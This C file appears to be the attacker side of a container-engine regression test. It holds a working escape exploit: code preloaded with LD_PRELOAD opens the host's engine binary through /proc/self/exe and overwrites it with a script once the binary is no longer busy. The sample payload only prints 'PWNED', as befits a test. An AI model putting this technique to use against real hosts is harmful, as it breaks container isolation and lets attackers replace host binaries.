/* evil.c: the attacker's code for escape-exe.bats, preloaded into every
 * process of the container (LD_PRELOAD in the container's environment, as
 * an image's ENV could set it).  It acts only in a process whose
 * /proc/self/exe is the engine: the host's binary, which a container that
 * execs /proc/self/exe reaches when the engine's own code does the final
 * execve.  There it keeps the binary open in a child, stops running it, and
 * the child writes it as soon as nothing runs it any more (ETXTBSY till
 * then).  Everything it does is noted in /x/result. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static void note(const char *fmt, ...)
{
	char buf[4600];
	va_list ap;
	va_start(ap, fmt);
	int n = vsnprintf(buf, sizeof(buf) - 1, fmt, ap);
	va_end(ap);
	if (n < 0)
		return;
	if (n > (int)sizeof(buf) - 2)
		n = (int)sizeof(buf) - 2;
	buf[n++] = '\n';
	int fd = open("/x/result", O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC, 0644);
	if (fd >= 0) {
		(void)!write(fd, buf, (size_t)n);
		close(fd);
	}
}

/* The writer: a program other than the engine (a fork of it would keep
 * the binary busy), holding the engine's fd EVIL_FD. */
static void writer(int fd)
{
	char path[64];
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	for (int i = 0; i < 3000; i++) {
		int w = open(path, O_RDWR);
		if (w >= 0) {
			static const char payload[] = "#!/bin/sh\necho PWNED\n";
			if (write(w, payload, sizeof(payload) - 1) > 0)
				note("WROTE");
			else
				note("WRITEFAIL %s", strerror(errno));
			_exit(0);
		}
		if (errno != ETXTBSY) {
			note("OPENFAIL %s", strerror(errno));
			_exit(0);
		}
		nanosleep(&(struct timespec){ .tv_nsec = 10000000 }, NULL);
	}
	note("OPENFAIL still busy");
	_exit(0);
}

__attribute__((constructor)) static void evil(void)
{
	const char *writer_fd = getenv("EVIL_FD");
	if (writer_fd != NULL)
		writer(atoi(writer_fd));
	char exe[4096];
	ssize_t n = readlink("/proc/self/exe", exe, sizeof(exe) - 1);
	if (n < 0)
		return;
	exe[n] = '\0';
	if (strstr(exe, "engine") == NULL)
		return;
	int fd = open("/proc/self/exe", O_RDONLY);
	if (fd < 0) {
		note("OPENFAIL-RO %s %s", exe, strerror(errno));
		_exit(0);
	}
	note("OPENED %s", exe);
	if (fork() == 0) {
		char v[16];
		snprintf(v, sizeof(v), "%d", fd);
		setenv("EVIL_FD", v, 1);
		execl("/bin/true", "true", (char *)NULL);
		_exit(0);
	}
	/* Stop running the engine: the container's init (run) stays up as a
	 * sleep, an exec'd process just ends. */
	if (getpid() == 1)
		execl("/bin/sleep", "sleep", "1000", (char *)NULL);
	_exit(0);
}
